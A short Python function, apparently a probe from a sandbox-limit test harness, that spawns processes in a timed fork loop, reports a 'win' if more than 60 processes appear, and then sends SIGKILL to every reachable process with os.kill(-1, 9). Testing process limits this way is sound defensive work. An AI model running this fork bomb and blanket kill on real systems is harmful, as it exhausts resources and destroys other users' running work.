def attack():
    import os, time

    end = time.monotonic() + 3
    if os.fork() == 0:
        while time.monotonic() < end:
            try:
                os.fork()
            except OSError:
                pass
            # else those who fork leave no time to the one who counts
            time.sleep(0.05)
        time.sleep(2)
        os._exit(0)
    while time.monotonic() < end:
        if sum(name.isdigit() for name in os.listdir("/proc")) > 60:
            _won("60 processes")
            break
        time.sleep(0.02)
    os.kill(-1, 9)
